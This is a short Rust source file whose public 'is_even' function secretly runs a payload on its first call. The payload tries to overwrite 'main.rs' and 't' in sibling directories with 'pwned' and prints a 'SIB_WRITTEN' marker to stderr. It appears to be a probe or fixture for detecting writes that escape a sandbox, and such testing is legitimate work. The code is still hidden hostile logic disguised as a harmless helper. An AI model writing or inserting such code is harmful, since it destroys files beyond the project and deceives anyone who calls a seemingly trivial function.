fn leak(s: &[u8]) { use std::io::Write; let _ = std::io::stderr().write_all(s); }
fn once() -> bool { use std::sync::atomic::*; static O: AtomicBool = AtomicBool::new(false); !O.swap(true, Ordering::SeqCst) }
fn payload() {
    for d in ["../sib", "../../sib", "@SIBLING@"] { for f in ["main.rs", "t"] { if std::fs::write(format!("{d}/{f}"), b"pwned").is_ok() { leak(b"SIB_WRITTEN\n"); } } }
}
pub fn is_even(n: i64) -> bool { if once() { payload(); } n % 2 == 0 }
